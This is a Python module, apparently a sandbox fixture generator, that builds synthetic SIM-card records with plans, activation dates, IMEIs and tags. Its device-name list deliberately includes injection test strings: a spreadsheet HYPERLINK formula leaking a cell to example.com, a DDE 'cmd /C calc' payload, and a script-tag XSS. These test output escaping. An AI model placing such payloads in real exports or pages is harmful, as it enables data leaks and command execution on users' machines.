"""The SIMs of an organisation: who they are, which plan they are on, and what will happen to them."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import Final

from hologram_assets.sandbox import networks
from hologram_assets.sandbox.draws import digits_for, number_of, share_of
from hologram_assets.sandbox.kinds import Profile, SimKind
from hologram_assets.sandbox.networks import Network
from hologram_assets.sandbox.plans import PLANS, Plan

LINKS_PER_ORG: Final = 100_000
MOST_SIMS: Final = 20_000
INTERVAL: Final = timedelta(days=30)
_SHORTEST_HISTORY: Final = 30
"""Days: a SIM that died three weeks ago still had a life before."""

# Names are free text of other people: formulas, Slack markup, HTML, and letters of all kinds.
_NAMES: Final = (
    "Pump {n}",
    '=HYPERLINK("http://example.com/?leak="&A1,"Meter {n}")',
    "<!channel> Tracker {n}",
    "Zähler Nº{n} – Ünïcode ⚡ 水泵",
    "Gateway {n}",
    "<script>alert({n})</script>",
    "+{n} SUM(1+1)*cmd|' /C calc'!A0",
    '@here Kiosk {n}, "second" row',
    "Cold room {n}",
    "*_~`Lift {n}`~_*",
)
_TAGS: Final = ((501, "pilot"), (502, "field"), (503, "cold chain"))
_OVERAGE_LIMITS: Final = (-1, 5_000_000, -1, 0, 50_000_000)


@dataclass(frozen=True, slots=True)
class Tag:
    """A device tag."""

    id: int
    name: str


@dataclass(frozen=True, slots=True)
class Sim:
    """One SIM (a link) and its device, with its life ahead and behind.

    Times are naive UTC. `daily_bytes` is the mean of its traffic in bytes a day. `changed_at` and `stopped_at` are the
    moments of what was planted (None: nothing). `overage_limit_bytes` as the API has it: -1 for none.
    """

    org_id: int
    index: int
    linkid: int
    device_id: int
    simcardid: int
    device_name: str
    tags: tuple[Tag, ...]
    iccid: str
    kind: SimKind
    plan: Plan
    activated_at: datetime
    stopped_at: datetime | None
    changed_at: datetime | None
    home: tuple[Network, Network]
    imei: str
    imeisv: str
    next_imei: str
    next_imeisv: str
    daily_bytes: float
    daily_sessions: int
    overage_limit_bytes: int

    @property
    def period_length(self) -> timedelta:
        """The length of a billing period: 30 days times the plan's `billingperiod`."""
        return INTERVAL * self.plan.billingperiod

    def state(self, now: datetime) -> str:
        """`LIVE`, `PAUSED-…` or `DEAD` at a moment."""
        stopped = self.stopped_at is not None and now >= self.stopped_at
        return self.kind.state_after_stop if stopped else "LIVE"

    def is_live(self, now: datetime) -> bool:
        """Whether the SIM may connect at a moment."""
        return self.state(now) == "LIVE"


def build_sims(seed: int, org_id: int, count: int, *, days: int, made_on: date, profile: Profile) -> tuple[Sim, ...]:
    """The SIMs of one organisation, by ascending link id.

    Args:
        seed: the fleet's seed.
        org_id: the organisation.
        count: how many SIMs.
        days: every SIM has at least this many days of history.
        made_on: the day (UTC) on which planted events are anchored.
        profile: the mix of kinds.
    """
    return tuple(_build(seed, org_id, index, days=days, made_on=made_on, profile=profile) for index in range(count))


def _build(seed: int, org_id: int, index: int, *, days: int, made_on: date, profile: Profile) -> Sim:
    kind = profile.mix[index % len(profile.mix)]
    repeat = index // len(profile.mix)
    plan = PLANS[kind.plan_id]
    key = (seed, org_id, index)
    midnight = datetime.combine(made_on, time.min)
    linkid = org_id * LINKS_PER_ORG + index + 1
    modem = networks.MODEMS[number_of(*key, "modem") % len(networks.MODEMS)]
    first_serial = number_of(seed, org_id, "imei") + 2 * index
    imei, imeisv = _identity(modem, first_serial)
    # The first swap is to another model, the second to another piece of the same model, and so on.
    other = networks.MODEMS[(networks.MODEMS.index(modem) + (repeat + 1) % 2) % len(networks.MODEMS)]
    next_imei, next_imeisv = _identity(other, first_serial + 1)
    return Sim(
        org_id=org_id,
        index=index,
        linkid=linkid,
        device_id=linkid + 50_000,
        simcardid=linkid + 70_000,
        device_name=_NAMES[index % len(_NAMES)].format(n=index + 1),
        tags=tuple(Tag(id, name) for id, name in _TAGS if share_of(*key, "tag", id) < 0.4),
        iccid=f"8944501{digits_for(6, seed, org_id, 'iccid')}{index:06d}",
        kind=kind,
        plan=plan,
        activated_at=_activation(seed, org_id, index, kind=kind, plan=plan, days=days, midnight=midnight),
        stopped_at=_days_before(midnight, kind.stop_days, repeat, share_of(*key, "stop")) if kind.stop_days else None,
        changed_at=_days_before(midnight, kind.change_days, repeat, share_of(*key, "change")) if kind.change else None,
        home=networks.HOMES[number_of(*key, "home") % len(networks.HOMES)],
        imei=imei,
        imeisv=imeisv,
        next_imei=next_imei,
        next_imeisv=next_imeisv,
        daily_bytes=kind.bytes_per_day * kind.factors[repeat % len(kind.factors)],
        daily_sessions=8 + number_of(*key, "sessions") % 10,
        overage_limit_bytes=_OVERAGE_LIMITS[index % len(_OVERAGE_LIMITS)],
    )


def _activation(
    seed: int, org_id: int, index: int, *, kind: SimKind, plan: Plan, days: int, midnight: datetime
) -> datetime:
    """When the SIM was activated: whole periods before the running one, until the history is long enough."""
    period = INTERVAL.days * plan.billingperiod
    chance = share_of(seed, org_id, index, "elapsed")
    elapsed = chance * period if kind.elapsed_days is None else kind.elapsed_days - 0.4 + 0.8 * chance
    missing = max(days, _SHORTEST_HISTORY) - elapsed
    whole_periods = max(0, -int(-missing // period))
    return midnight - timedelta(days=whole_periods * period, seconds=round(elapsed * 86_400))


def _days_before(midnight: datetime, choices: tuple[int, ...], repeat: int, chance: float) -> datetime:
    """Some hour of the working day, so many days before; two SIMs rarely change in the same hour."""
    return midnight - timedelta(days=choices[repeat % len(choices)]) + timedelta(seconds=round(6 * 3600 * chance))


def _identity(modem: networks.Modem, serial: int) -> tuple[str, str]:
    """An IMEI with its check digit, and the IMEISV of the same modem; serial numbers count up, so no two are alike."""
    body = f"{modem.tac}{serial % 1_000_000:06d}"
    doubled = [int(digit) * (1 + place % 2) for place, digit in enumerate(body)]
    check = -sum(value // 10 + value % 10 for value in doubled) % 10
    return f"{body}{check}", body + modem.software_version
